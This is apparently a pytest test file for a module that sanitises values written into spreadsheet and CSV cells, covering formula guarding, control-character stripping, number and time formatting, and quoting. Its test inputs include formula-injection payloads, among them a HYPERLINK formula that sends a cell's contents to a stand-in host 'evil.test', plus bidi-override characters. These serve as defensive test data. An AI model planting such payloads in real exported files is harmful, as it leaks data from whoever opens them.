"""One value, one cell: nothing in it runs, hides, breaks the row or gets lost."""

import pytest

from crawler.records import Evidence
from reports.cells import MAX_CELL, cell, guard, number, plain, plain_lines, quoted, unguard
from reports.schema import IDS, WORDS, Column

TEXT = Column("title", "string", "A text.")
URLS = Column("urls", "string", "Some URLs.", IDS)
PHRASES = Column("phrases", "string", "Some phrases.", WORDS)

FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://evil.test/?"&A1,"click")',
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\x00=1",
    "\u202e=1",
    " =1",
    "\u00a0=1",
    "\u200b=1",
    "\ufeff=1",
    "＝1",
    "＋1",
    "－1",
    "＠1",
    "-",
    "'=1",
]


@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
def test_a_formula_gets_an_apostrophe(text: str) -> None:
    assert cell(text, TEXT) == "'" + plain(text)


@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
def test_a_list_that_starts_like_a_formula_gets_an_apostrophe(text: str) -> None:
    assert cell((text, "b"), PHRASES).startswith("'")


@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
def test_raw_switches_the_formula_guard_off_and_nothing_else(text: str) -> None:
    assert cell(text, TEXT, raw=True) == plain(text)


@pytest.mark.parametrize("text", [*FORMULAS, "", "'", "''", "''=1", "it's", "a=b", "'tis", "' =1", "'''@x"], ids=ascii)
def test_taking_the_guard_off_gives_the_text_back(text: str) -> None:
    assert unguard(guard(text)) == text


@pytest.mark.parametrize("text", ["a=b", "1-2", "user@mail.test", "it's", "https://a.test/?q=-1", "", "−5 °C"])
def test_other_text_is_untouched(text: str) -> None:
    assert cell(text, TEXT) == text


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        ("a\x00b", "ab"),
        ("a\x1b[31mb", "a[31mb"),
        ("a\x7f\x9bb", "ab"),
        ("\u202eevil\u202c", "evil"),
        ("\u2066a\u2069\u2067\u2068", "a"),
        ("a\r\nb", "a b"),
        ("a\n\n\tb", "a b"),
        ("a\u2028b\u2029c\x85d", "a b c d"),
        ("a\r\x00\nb", "a b"),
        ("\ud800a\udfff", "\ufffda\ufffd"),
        ("  a  ", "a"),
        ("עברית 東京 é 👍🏽", "עברית 東京 é 👍🏽"),
    ],
    ids=ascii,
)
def test_text_is_one_clean_line(text: str, kept: str) -> None:
    assert plain(text) == kept
    assert plain(text).encode() == kept.encode()


def test_lines_stay_where_a_text_has_lines() -> None:
    assert plain_lines("a\r\nb\rc\n\x00d\u202e\te\ud800") == "a\nb\nc\nd\te\ufffd"


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (0.0, "0.0"),
        (-0.0, "0.0"),
        (-0.00001, "0.0"),
        (1.0, "1.0"),
        (0.5, "0.5"),
        (0.123456, "0.1235"),
        (1e-9, "0.0"),
        (1e22, "10000000000000000000000.0"),
        (-2.5, "-2.5"),
        (100.0, "100.0"),
        (float("nan"), ""),
        (float("inf"), ""),
    ],
)
def test_numbers_have_a_point_four_digits_and_no_exponent(value: float, text: str) -> None:
    assert number(value) == text


@pytest.mark.parametrize(("value", "text"), [(-5, "-5"), (0, "0"), (10**20, "1" + "0" * 20), (-0.5, "-0.5")])
def test_negative_numbers_are_not_taken_for_formulas(value: float, text: str) -> None:
    assert cell(value, TEXT) == text


@pytest.mark.parametrize(
    ("text", "time"),
    [
        ("2026-03-01T10:00:00Z", "2026-03-01T10:00:00Z"),
        ("2026-03-01T10:00:00.25Z", "2026-03-01T10:00:00.250000Z"),
        ("2026-03-01T10:00:00+02:00", "2026-03-01T08:00:00Z"),
        ("2026-03-01T10:00:00", "2026-03-01T10:00:00Z"),
        ("2026-03-01", "2026-03-01T00:00:00Z"),
        ("", ""),
        ("yesterday", ""),
        ("=1+1", ""),
        ("2026-13-01T10:00:00Z", ""),
        ("0001-01-01T00:00:00+02:00", ""),
    ],
)
def test_times_are_in_utc_and_what_is_no_time_is_left_out(text: str, time: str) -> None:
    assert cell(text, Column("seen_at", "datetime", "A time.")) == time


@pytest.mark.parametrize(
    ("text", "written"),
    [("a", '"a"'), ("00123", '"00123"'), ('say "hi"', '"say ""hi"""'), ("", ""), ('"', '""""'), ("a,b", '"a,b"')],
)
def test_texts_are_quoted_and_no_text_is_an_empty_cell(text: str, written: str) -> None:
    assert quoted(text, TEXT) == written


def test_numbers_and_times_are_not_quoted() -> None:
    assert quoted("12", Column("n", "integer", "A number.")) == "12"
    assert quoted("2026-03-01T10:00:00Z", Column("at", "datetime", "A time.")) == "2026-03-01T10:00:00Z"


def test_urls_are_joined_by_a_space_that_none_of_them_has() -> None:
    assert cell(("https://a.test/x y", "https://b.test/"), URLS) == "https://a.test/x%20y https://b.test/"


def test_a_phrase_cannot_pass_for_two_reasons() -> None:
    reasons = (Evidence("keyword", "roof; own_facts=99"), Evidence("slots", "4"))
    assert cell(reasons, PHRASES).split(WORDS) == ["keyword=roof, own_facts=99", "slots=4"]


def test_an_empty_list_is_an_empty_cell() -> None:
    assert cell((), URLS) == ""


def test_a_text_is_cut_to_what_a_spreadsheet_takes() -> None:
    text = cell("x" * 1_000_000, TEXT)
    assert len(text) == MAX_CELL
    assert text.endswith("x…")


def test_a_list_is_cut_between_items() -> None:
    items = tuple(f"https://a.test/{n:05}" for n in range(10_000))
    kept = cell(items, URLS).split(" ")
    assert tuple(kept) == items[: len(kept)]
    assert 1_000 < len(kept) < 2_000
